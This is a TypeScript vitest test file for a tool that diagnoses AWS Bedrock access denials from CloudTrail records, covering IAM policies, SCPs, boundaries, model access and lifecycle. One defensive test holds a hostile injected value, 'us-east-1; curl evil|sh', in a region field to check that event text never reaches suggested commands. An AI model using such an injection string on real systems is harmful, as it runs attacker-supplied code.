import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { parseCloudTrailRecord } from '../../functions/diagnosis/cloudtrail-record.ts';
import { diagnose } from '../../functions/diagnosis/diagnose.ts';
import type { DeniedRequest } from '../../functions/diagnosis/diagnosis.ts';
import type { AgentRole } from '../../functions/workload/agent-role.ts';
import type { ModelAvailability } from '../../functions/workload/snapshot.ts';
import {
  ACCOUNT,
  administrator,
  agentRole,
  allow,
  foundationModel,
  good,
  identity,
  MODEL,
  MODEL_ID,
  modelUse,
  policy,
  ROLE,
  request,
} from './agent-role-fixture.ts';

const file = new URL('../fixtures/cloudtrail/converse-denied.json', import.meta.url);
const record = JSON.parse(readFileSync(file, 'utf8')) as Readonly<Record<string, unknown>>;
const SESSION = `arn:aws:sts::${ACCOUNT}:assumed-role/SupportAgentRole/BedrockAgents-AGENT00001-1f4c33b8`;
const STREAM = 'bedrock:InvokeModelWithResponseStream';

function denied(changes: Readonly<Record<string, unknown>> = {}): DeniedRequest {
  const parsed = parseCloudTrailRecord({ ...record, ...changes });
  if (!('denied' in parsed)) throw new Error('the fixture is no denial');
  return parsed.denied;
}

const says = (errorMessage: string): DeniedRequest => denied({ errorMessage });
const iam = (reason: string, action = 'bedrock:InvokeModel', resource = MODEL): DeniedRequest =>
  says(`User: ${SESSION} is not authorized to perform: ${action} on resource: ${resource} ${reason}`);
const implicit = 'because no identity-based policy allows the bedrock:InvokeModel action';

const withoutAgreement = { ...good, agreementAvailability: { status: 'NOT_AVAILABLE' } };
const uses = (availability: ModelAvailability): Pick<AgentRole, 'models'> => ({
  models: { known: [modelUse([foundationModel({ availability: { known: availability } })])] },
});
const retired = {
  details: {
    known: { modelId: MODEL_ID, modelLifecycle: { status: 'LEGACY', endOfLifeTime: '2026-11-01T00:00:00Z' } },
  },
} as const;
const PROFILE = `arn:aws:bedrock:us-east-1:${ACCOUNT}:inference-profile/us.anthropic.claude-haiku-4-5-20251001-v1:0`;
const formMissing = { useCaseFormSubmitted: { known: false } } as const;
const unreadPolicies = { identityPolicies: { missing: ['iam was not read'] }, readablePolicies: [] } as const;
const inline = (statement: unknown) => identity(policy('inline policy Model', statement));
const boundary = (statement: unknown) => ({
  permissionsBoundary: { known: policy('arn:aws:iam::111122223333:policy/Limits', statement, 'permissionsBoundary') },
});
const organization = (statement: unknown) => ({
  serviceControlPolicies: { known: [[policy('scp', statement, 'serviceControl')]] },
});

type Row = readonly [string, DeniedRequest, AgentRole | undefined, readonly string[]];

const rows: readonly Row[] = [
  ['everything is in order', denied(), agentRole(), []],
  [
    'no form, no agreement, every permission',
    denied(),
    agentRole({ ...identity(administrator), ...formMissing, ...uses(withoutAgreement) }),
    ['USE_CASE_FORM_NOT_SUBMITTED proven'],
  ],
  [
    'no form of its own, and an agreement in the making: the form may be inherited',
    denied(),
    agentRole({ ...formMissing, ...uses({ ...good, agreementAvailability: { status: 'PENDING' } }) }),
    ['USE_CASE_FORM_NOT_SUBMITTED likely', 'MARKETPLACE_SUBSCRIPTION_PENDING_OR_PAYMENT likely'],
  ],
  [
    'no form of its own, but perhaps an inherited one',
    denied(),
    agentRole({ ...formMissing }),
    ['USE_CASE_FORM_NOT_SUBMITTED possible'],
  ],
  [
    'no form, and availability was not read',
    denied(),
    agentRole({
      ...formMissing,
      models: { known: [modelUse([foundationModel({ availability: { missing: ['refused'] } })])] },
    }),
    ['USE_CASE_FORM_NOT_SUBMITTED likely'],
  ],
  [
    'no form, for a model of another provider',
    denied({ requestParameters: { modelId: 'amazon.nova-pro-v1:0' } }),
    agentRole({
      ...formMissing,
      ...inline(allow('bedrock:InvokeModel', '*')),
      models: { known: [modelUse([foundationModel({ modelId: 'amazon.nova-pro-v1:0', provider: 'amazon' })])] },
    }),
    [],
  ],
  [
    'the form is there, the permission is not',
    denied(),
    agentRole(inline(allow('s3:GetObject', '*'))),
    ['IDENTITY_POLICY_MISSING_ACTION proven'],
  ],
  [
    'neither form nor permission',
    denied(),
    agentRole({ ...inline(allow('s3:GetObject', '*')), ...formMissing, ...uses(withoutAgreement) }),
    [
      'IDENTITY_POLICY_MISSING_ACTION proven',
      'USE_CASE_FORM_NOT_SUBMITTED likely',
      'MARKETPLACE_PERMISSIONS_MISSING possible',
    ],
  ],
  [
    'the streaming twin is missing',
    denied({ eventName: 'ConverseStream' }),
    agentRole(),
    ['STREAM_ACTION_MISSING proven'],
  ],
  [
    'the name of an SDK client',
    denied(),
    agentRole(inline(allow('bedrock-runtime:InvokeModel', '*'))),
    ['INVALID_ACTION_NAME proven'],
  ],
  [
    'the name of an API operation',
    denied(),
    agentRole(inline(allow('bedrock:Converse', '*'))),
    ['INVALID_ACTION_NAME proven'],
  ],
  [
    'another Region',
    denied(),
    agentRole(inline(allow('bedrock:InvokeModel', MODEL.replace('us-east-1', 'us-west-2')))),
    ['RESOURCE_ARN_MISMATCH proven'],
  ],
  [
    'a condition that fails',
    denied(),
    agentRole(
      inline(allow('bedrock:*', '*', { Condition: { StringEquals: { 'aws:PrincipalAccount': '444455556666' } } })),
    ),
    ['POLICY_CONDITION_NOT_MET proven'],
  ],
  [
    'a condition on what nobody sees',
    denied(),
    agentRole(inline(allow('bedrock:*', '*', { Condition: { IpAddress: { 'aws:SourceIp': '203.0.113.0/24' } } }))),
    ['POLICY_CONDITION_NOT_MET likely'],
  ],
  [
    'a condition that no call meets: every one is encrypted',
    denied(),
    agentRole(inline(allow('bedrock:*', '*', { Condition: { Bool: { 'aws:SecureTransport': 'false' } } }))),
    ['POLICY_CONDITION_NOT_MET proven'],
  ],
  [
    'a Deny in the policies',
    denied(),
    agentRole(
      identity(administrator, policy('inline policy Stop', { Effect: 'Deny', Action: 'bedrock:*', Resource: '*' })),
    ),
    ['EXPLICIT_DENY_IDENTITY proven'],
  ],
  [
    'a Deny in the policies that could be read',
    denied(),
    agentRole({
      identityPolicies: { missing: ['a managed policy was not read'] },
      readablePolicies: [policy('inline policy Stop', { Effect: 'Deny', Action: 'bedrock:*', Resource: '*' })],
    }),
    [
      'EXPLICIT_DENY_IDENTITY proven',
      'IDENTITY_POLICY_MISSING_ACTION possible',
      'STREAM_ACTION_MISSING possible',
      'RESOURCE_ARN_MISMATCH possible',
    ],
  ],
  ['a boundary without Bedrock', denied(), agentRole(boundary(allow('s3:*', '*'))), ['PERMISSIONS_BOUNDARY proven']],
  ['an organization without Bedrock', denied(), agentRole(organization(allow('s3:*', '*'))), ['SCP_DENY proven']],
  [
    'a model past its end of life',
    denied(),
    agentRole({
      models: {
        known: [
          modelUse([
            foundationModel({
              details: {
                known: {
                  modelId: MODEL_ID,
                  modelLifecycle: { status: 'LEGACY', endOfLifeTime: '2026-11-01T00:00:00Z' },
                },
              },
            }),
          ]),
        ],
      },
    }),
    ['MODEL_RETIRED_OR_LEGACY proven'],
  ],
  [
    'a model past its end of life, of which nothing but its name is known',
    denied({ requestParameters: { modelId: 'us.anthropic.claude-3-5-haiku-20241022-v1:0' } }),
    undefined,
    [
      'MODEL_RETIRED_OR_LEGACY proven',
      'USE_CASE_FORM_NOT_SUBMITTED possible',
      'MODEL_ACCESS_NOT_GRANTED possible',
      'IDENTITY_POLICY_MISSING_ACTION possible',
      'STREAM_ACTION_MISSING possible',
      'RESOURCE_ARN_MISMATCH possible',
    ],
  ],
  [
    'a retired model without a form: no form brings it back',
    denied(),
    agentRole({
      ...identity(administrator),
      ...formMissing,
      models: { known: [modelUse([foundationModel({ ...retired, availability: { known: withoutAgreement } })])] },
    }),
    ['MODEL_RETIRED_OR_LEGACY proven', 'USE_CASE_FORM_NOT_SUBMITTED likely'],
  ],
  [
    'one of two models is retired: it may have been the other one',
    denied({ eventName: 'InvokeAgent', requestParameters: null }),
    agentRole({
      models: { known: [modelUse([foundationModel(), foundationModel({ ...retired, modelId: 'anthropic.old' })])] },
    }),
    ['MODEL_RETIRED_OR_LEGACY likely'],
  ],
  [
    'a service that cannot assume a role has no policies of its own',
    denied({
      eventSource: 'sts.amazonaws.com',
      eventName: 'AssumeRole',
      userIdentity: { type: 'AWSService' },
      errorMessage: `User: bedrock.amazonaws.com is not authorized to perform: sts:AssumeRole on resource: ${ROLE}`,
    }),
    undefined,
    ['TRUST_POLICY likely'],
  ],
  [
    'somebody who cannot assume a role: either policy',
    iam('', 'sts:AssumeRole', ROLE),
    undefined,
    ['TRUST_POLICY possible', 'IDENTITY_POLICY_MISSING_ACTION possible', 'RESOURCE_ARN_MISMATCH possible'],
  ],
  [
    'a call of Amazon S3 is no call of a model: the models of the workload are not asked about',
    denied({ eventSource: 's3.amazonaws.com', eventName: 'HeadObject', errorMessage: 'Access Denied' }),
    agentRole(organization(allow('s3:*', '*'))),
    [],
  ],
  [
    'a call of Amazon S3 by whoever it was',
    denied({
      eventSource: 's3.amazonaws.com',
      eventName: 'GetObject',
      errorMessage: 'Access Denied',
      requestParameters: null,
    }),
    undefined,
    ['S3_ACCESS possible'],
  ],
  [
    'the token of a gateway is not a matter of IAM',
    denied({
      eventSource: 'bedrock-agentcore.amazonaws.com',
      eventName: 'InvokeGateway',
      errorMessage: 'Invalid Bearer token',
    }),
    undefined,
    ['WRONG_CREDENTIALS_OR_REGION likely'],
  ],
  [
    'a masked account is no other account',
    iam(implicit, 'bedrock:InvokeModel', PROFILE.replace(ACCOUNT, 'XXXXXXXXXXXX')),
    agentRole(),
    ['IAM_PROPAGATION likely'],
  ],
  [
    'an ARN with an ellipsis is no other ARN',
    iam(implicit, 'bedrock:InvokeModel', 'arn:aws:bedrock:us-east-1:...:inference-profile/us.x'),
    agentRole(),
    ['IAM_PROPAGATION likely'],
  ],
  [
    'the session of an agent that acts with another role proves nothing of the needs of this one',
    denied({
      userIdentity: {
        arn: SESSION.replace('AGENT00001', 'AGENT00009'),
        sessionContext: { sessionIssuer: { arn: ROLE } },
      },
      requestParameters: null,
    }),
    agentRole(inline(allow('s3:GetObject', '*'))),
    ['IDENTITY_POLICY_MISSING_ACTION possible'],
  ],
  [
    'AWS names the identity-based policies, but no resource that they could be asked about',
    says(
      `User: ${SESSION} is not authorized to perform: s3:GetObject because no identity-based policy allows the s3:GetObject action`,
    ),
    agentRole(),
    ['S3_ACCESS likely'],
  ],
  [
    'Amazon S3 puts its ARNs between quotation marks',
    iam(
      'because no identity-based policy allows the s3:GetObject action',
      's3:GetObject',
      '"arn:aws:s3:::docs/a b.pdf"',
    ),
    agentRole(),
    ['S3_ACCESS proven'],
  ],
  [
    'a model that the Region does not have',
    denied(),
    agentRole(uses({ ...good, regionAvailability: 'NOT_AVAILABLE' })),
    ['MODEL_NOT_IN_REGION proven'],
  ],
  [
    'a model that the Region of the evidence does not have, called in another Region',
    denied({ awsRegion: 'eu-west-1' }),
    agentRole({ ...identity(administrator), ...uses({ ...good, regionAvailability: 'NOT_AVAILABLE' }) }),
    ['MODEL_NOT_IN_REGION possible'],
  ],
  [
    'an agreement under way',
    denied(),
    agentRole(uses({ ...good, agreementAvailability: { status: 'PENDING' } })),
    ['MARKETPLACE_SUBSCRIPTION_PENDING_OR_PAYMENT likely'],
  ],
  [
    'no agreement',
    denied(),
    agentRole(uses(withoutAgreement)),
    ['MODEL_ACCESS_NOT_GRANTED likely', 'MARKETPLACE_PERMISSIONS_MISSING possible'],
  ],
  [
    'nothing but the message',
    denied(),
    undefined,
    [
      'USE_CASE_FORM_NOT_SUBMITTED possible',
      'MODEL_ACCESS_NOT_GRANTED possible',
      'IDENTITY_POLICY_MISSING_ACTION possible',
      'STREAM_ACTION_MISSING possible',
      'RESOURCE_ARN_MISMATCH possible',
    ],
  ],
  [
    'a text that speaks of no refusal',
    { errorMessage: 'socket hang up', message: { template: 'unrecognised' } },
    undefined,
    [],
  ],
  [
    'AWS names the identity-based policies, and nothing else is known',
    iam(implicit),
    undefined,
    ['IDENTITY_POLICY_MISSING_ACTION likely', 'RESOURCE_ARN_MISMATCH possible'],
  ],
  [
    'AWS names the identity-based policies, on a model in another Region than the call',
    iam(implicit, 'bedrock:InvokeModel', MODEL.replace('us-east-1', 'us-east-2')),
    undefined,
    ['RESOURCE_ARN_MISMATCH likely', 'IDENTITY_POLICY_MISSING_ACTION possible'],
  ],
  [
    'AWS names the identity-based policies, and they allow it now',
    iam(implicit),
    agentRole(),
    ['IAM_PROPAGATION likely'],
  ],
  [
    'AWS names the identity-based policies: a missing form is not asked about',
    iam(implicit),
    agentRole({ ...inline(allow('s3:GetObject', '*')), ...formMissing, ...uses(withoutAgreement) }),
    ['IDENTITY_POLICY_MISSING_ACTION proven'],
  ],
  [
    'AWS names an SCP: the policies of the role are not blamed',
    iam('with an explicit deny in a service control policy'),
    agentRole(inline(allow('s3:GetObject', '*'))),
    ['SCP_DENY proven'],
  ],
  [
    'AWS names a boundary',
    iam('because no permissions boundary allows the bedrock:InvokeModel action'),
    agentRole(unreadPolicies),
    ['PERMISSIONS_BOUNDARY proven'],
  ],
  [
    'AWS names the session',
    iam('because no session policy allows the bedrock:InvokeModel action'),
    undefined,
    ['SESSION_POLICY proven'],
  ],
  [
    'AWS names the endpoint',
    iam('because no VPC endpoint policy allows the bedrock:InvokeModel action'),
    undefined,
    ['VPC_ENDPOINT_POLICY proven'],
  ],
  ['AWS names an RCP', iam('with an explicit deny in a resource control policy'), undefined, ['RCP_DENY proven']],
  [
    'AWS names an explicit Deny',
    iam('with an explicit deny in an identity-based policy'),
    undefined,
    ['EXPLICIT_DENY_IDENTITY proven'],
  ],
  [
    'AWS names the trust policy',
    iam('because no role trust policy allows the sts:AssumeRole action', 'sts:AssumeRole', ROLE),
    undefined,
    ['TRUST_POLICY proven'],
  ],
  [
    'AWS names the policy of a key',
    iam(
      'because no resource-based policy allows the kms:Decrypt action',
      'kms:Decrypt',
      `arn:aws:kms:us-east-1:${ACCOUNT}:key/k`,
    ),
    undefined,
    ['KMS_KEY_POLICY proven'],
  ],
  [
    'AWS names the form',
    says('Model use case details have not been submitted for this account.'),
    undefined,
    ['USE_CASE_FORM_NOT_SUBMITTED proven'],
  ],
  [
    'the knowledge base could not be asked: its own role and store come first',
    says('Access denied when calling Bedrock KnowledgeBase retrieve.'),
    undefined,
    [
      'TRUST_POLICY possible',
      'AOSS_DATA_ACCESS_POLICY possible',
      'IDENTITY_POLICY_MISSING_ACTION possible',
      'RESOURCE_ARN_MISMATCH possible',
    ],
  ],
  [
    'the Marketplace actions are missing, or that is all it says',
    says(
      'Model access is denied due to IAM user or service role is not authorized to perform the required AWS Marketplace actions (aws-marketplace:ViewSubscriptions, aws-marketplace:Subscribe) to enable access to this model.',
    ),
    undefined,
    ['MARKETPLACE_PERMISSIONS_MISSING likely', 'MARKETPLACE_SUBSCRIPTION_PENDING_OR_PAYMENT possible'],
  ],
  [
    'CreateAgent is refused without a reason: the role that was passed is not there',
    says(`User: ${SESSION} is not authorized to perform: bedrock:CreateAgent`),
    undefined,
    ['RESOURCE_DOES_NOT_EXIST likely', 'IDENTITY_POLICY_MISSING_ACTION possible', 'RESOURCE_ARN_MISMATCH possible'],
  ],
  [
    'AWS names a legacy model',
    says('Access denied. This Model is marked by provider as Legacy'),
    undefined,
    ['MODEL_RETIRED_OR_LEGACY proven'],
  ],
  [
    'no access to the model, says Bedrock',
    says("You don't have access to the model with the specified model ID."),
    undefined,
    [
      'MODEL_ACCESS_NOT_GRANTED likely',
      'USE_CASE_FORM_NOT_SUBMITTED possible',
      'MODEL_NOT_IN_REGION possible',
      'WRONG_CREDENTIALS_OR_REGION possible',
    ],
  ],
];

test.each(rows)('%s', (_, request_, role, expected) => {
  expect(diagnose(request_, role).causes.map(({ code, certainty }) => `${code} ${certainty}`)).toEqual(expected);
});

test('only what the call needs is asked for, as it needs it', () => {
  const role = agentRole({
    ...inline(allow('bedrock:InvokeModel', MODEL)),
    knownRequests: [
      request(),
      request({ action: STREAM, necessity: 'optional' }),
      request({ action: 'bedrock:Retrieve', kind: 'knowledgeBase' }),
    ],
  });
  const invoked = denied({ eventName: 'InvokeAgent', requestParameters: { agentId: 'AGENT00001' } });
  expect(diagnose(invoked, role).causes.map(({ code, certainty }) => `${code} ${certainty}`)).toEqual([
    'STREAM_ACTION_MISSING likely',
  ]);
});

test('the whole diagnosis of a missing permission', () => {
  expect(
    diagnose(denied(), agentRole(inline(allow('bedrock:InvokeModel', MODEL.replace('us-east-1', 'us-west-2'))))),
  ).toEqual({
    eventId: '6b2b9d0e-0000-4000-8000-000000000001',
    roleArn: ROLE,
    roleName: 'SupportAgentRole',
    workload: {
      type: 'agent',
      arn: `arn:aws:bedrock:us-east-1:${ACCOUNT}:agent/AGENT00001`,
      id: 'AGENT00001',
      version: 'DRAFT',
    },
    denied: { action: 'bedrock:InvokeModel', resource: MODEL, layer: null },
    causes: [
      {
        code: 'RESOURCE_ARN_MISMATCH',
        certainty: 'proven',
        summary: `The policies of the role allow bedrock:InvokeModel, but not on ${MODEL}: the ARN is of another Region.`,
        evidence: [
          {
            source: 'policy engine',
            says: `bedrock:InvokeModel on ${MODEL}: inline policy Model, statement 0 allows it on ${MODEL.replace('us-east-1', 'us-west-2')}: Region us-west-2 instead of us-east-1`,
          },
        ],
        change: {
          kind: 'correct',
          requests: [
            { action: 'bedrock:InvokeModel', resource: MODEL, context: { 'aws:RequestedRegion': 'us-east-1' } },
          ],
          location: { policy: 'inline policy Model', statement: 0 },
          written: MODEL.replace('us-east-1', 'us-west-2'),
        },
      },
    ],
    unanswered: [],
  });
});

test('a profile is granted on all its models that are denied, not only on the one that the message names', () => {
  const inRegion = (region: string) => MODEL.replace('us-east-1', region);
  const needs = (resource: string) => request({ resource, capability: 'inference profile us.anthropic' });
  const role = agentRole({
    ...inline(allow('bedrock:InvokeModel', MODEL)),
    knownRequests: [
      needs(MODEL),
      needs(inRegion('us-east-2')),
      needs(inRegion('us-west-2')),
      request({ resource: inRegion('eu-west-1'), capability: 'another model' }),
    ],
  });
  const [cause] = diagnose(iam(implicit, 'bedrock:InvokeModel', inRegion('us-east-2')), role).causes;
  expect(cause?.change).toEqual({
    kind: 'correct',
    location: { policy: 'inline policy Model', statement: 0 },
    written: MODEL,
    requests: ['us-east-2', 'us-west-2'].map((region) => ({
      action: 'bedrock:InvokeModel',
      resource: inRegion(region),
      context: { 'aws:RequestedRegion': region },
    })),
  });
});

test("a session names its role, though not the role's path", () => {
  const parsed = parseCloudTrailRecord({ errorMessage: `User: ${SESSION} is not authorized to perform: s3:GetObject` });
  if (!('denied' in parsed)) throw new Error('the message is no denial');
  const { roleArn, roleName } = diagnose(parsed.denied, undefined);
  expect({ roleArn, roleName }).toEqual({ roleArn: null, roleName: 'SupportAgentRole' });
});

test('what could not be read is said', () => {
  const role = agentRole({
    ...unreadPolicies,
    useCaseFormSubmitted: { missing: ['refused'] },
    serviceControlPolicies: { missing: ['the organization was not read'] },
    permissionsBoundary: { missing: ['iam was not read'] },
    models: { missing: ['bedrock was not read'] },
  });
  expect(diagnose(denied(), role).unanswered).toEqual([
    'whether the Anthropic use-case form was submitted: refused',
    'whether the account may use the model: bedrock was not read',
    'whether the identity-based policies allow the call: iam was not read',
    'whether service control policies deny it: the organization was not read',
    'whether the permissions boundary denies it: iam was not read',
  ]);
});

const KEY = `arn:aws:kms:us-east-1:${ACCOUNT}:key/0a1b2c3d`;

test.each<Row>([
  [
    'a key that no identity-based policy names',
    iam('because no identity-based policy allows the kms:Decrypt action', 'kms:Decrypt', KEY),
    agentRole(),
    ['IDENTITY_POLICY_MISSING_ACTION likely', 'KMS_KEY_POLICY possible'],
  ],
  [
    'a key whose own policy is not known blames no other layer',
    iam('', 'kms:Decrypt', KEY),
    agentRole({ ...identity(administrator), ...boundary(allow('*', '*')), ...organization(allow('*', '*')) }),
    ['KMS_KEY_POLICY possible'],
  ],
  [
    'an organization that denies the unspecified Region of a global profile',
    iam('', 'bedrock:InvokeModel', `arn:aws:bedrock:::foundation-model/${MODEL_ID}`),
    agentRole({
      ...identity(administrator),
      ...organization([
        allow('*', '*'),
        {
          Effect: 'Deny',
          Action: '*',
          Resource: '*',
          Condition: { StringNotEquals: { 'aws:RequestedRegion': 'us-east-1' } },
        },
      ]),
    }),
    ['SCP_DENY proven'],
  ],
  [
    'AWS saw no Deny, and the policies hold one now',
    iam(implicit),
    agentRole(identity(policy('inline policy Stop', { Effect: 'Deny', Action: 'bedrock:*', Resource: '*' }))),
    ['EXPLICIT_DENY_IDENTITY likely'],
  ],
])('%s', (_, request_, role, expected) => {
  expect(diagnose(request_, role).causes.map(({ code, certainty }) => `${code} ${certainty}`)).toEqual(expected);
});

test('a layer whose answer hangs on what nobody sees is an open question', () => {
  const role = agentRole(
    organization([
      allow('*', '*'),
      { Effect: 'Deny', Action: '*', Resource: '*', Condition: { StringEquals: { 'aws:SourceVpc': 'vpc-1' } } },
    ]),
  );
  expect(diagnose(denied(), role).unanswered).toContain(
    'whether service control policies deny it: it depends on aws:SourceVpc',
  );
});

test('resource control policies are an open question only for services that have them', () => {
  const role = agentRole({ ...identity(administrator), resourceControlPolicies: { missing: ['not read'] } });
  const open = 'whether resource control policies deny it: not read';
  expect(diagnose(iam('', 's3:GetObject', 'arn:aws:s3:::schemas/a.json'), role).unanswered).toContain(open);
  expect(diagnose(denied(), role).unanswered).not.toContain(open);
});

test('gaps that could hide the role are said when the role is unknown', () => {
  expect(diagnose(iam(implicit), undefined, ['agents were not read']).unanswered).toEqual([
    'whether the identity-based policies allow the call: no evidence about the role was given',
    `what the role ${ROLE} may do: it is not among the agent roles that were read`,
    'agents were not read',
  ]);
});

test.each([
  ['the one that AWS names', `policy/Other`, `arn:aws:iam::${ACCOUNT}:policy/Other`],
  ['its statement, where it is the one that was read', `policy/Stop`, 'managed policy Stop, statement 0'],
])('the policy of a Deny is %s', (_, named, where) => {
  const stop = policy('managed policy Stop', { Effect: 'Deny', Action: 'bedrock:*', Resource: '*' });
  const text = `with an explicit deny in an identity-based policy: arn:aws:iam::${ACCOUNT}:${named}`;
  const [cause] = diagnose(iam(text), agentRole(identity(administrator, stop))).causes;
  expect(cause?.summary).toBe(`An identity-based policy of the caller denies bedrock:InvokeModel: ${where}.`);
});

test('a Region deny that stops a global profile is told as one, though the message names no resource', () => {
  const resource = MODEL.replace('us-east-1', '');
  const role = agentRole({
    ...inline(allow('bedrock:InvokeModel', '*')),
    ...organization([
      allow('*', '*'),
      {
        Effect: 'Deny',
        Action: '*',
        Resource: '*',
        Condition: { StringNotEquals: { 'aws:RequestedRegion': 'us-east-1' } },
      },
    ]),
    knownRequests: [request(), request({ resource })],
  });
  const [cause] = diagnose(denied({ requestParameters: null }), role).causes;
  expect(cause?.code).toBe('SCP_DENY');
  expect(cause?.change.kind === 'steps' && cause.change.steps[0]).toContain('`unspecified`');
});

test('nothing of an event becomes part of a command as it is', () => {
  const hostile = denied({
    errorMessage: 'The provided model identifier is invalid. Access denied when calling Bedrock',
    awsRegion: 'us-east-1; curl evil|sh',
    requestParameters: null,
  });
  const commands = diagnose(hostile, undefined).causes.flatMap(({ change }) =>
    change.kind === 'steps' ? change.steps.flatMap((step) => step.match(/`[^`]*`/g) ?? []) : [],
  );
  expect(commands).toContain('`aws bedrock list-foundation-models --region <region>`');
  expect(commands.join()).not.toContain('curl');
});

test('a workload that was called, and whose roles are several, is told as that', () => {
  const called = denied({ eventName: 'InvokeAgent', requestParameters: { agentId: 'AGENT00001' }, userIdentity: {} });
  expect(diagnose(called, undefined).unanswered).toContain(
    'which role agent AGENT00001 acted with: none of those that were read, or more than one',
  );
});

test('the Region that may not have the model is the one of the call', () => {
  const invalid = denied({
    awsRegion: 'eu-west-1',
    errorMessage: 'The provided model identifier is invalid.',
    errorCode: 'AccessDenied',
  });
  expect(diagnose(invalid, agentRole()).causes[0]?.summary).toBe('The model may not be offered in eu-west-1.');
});
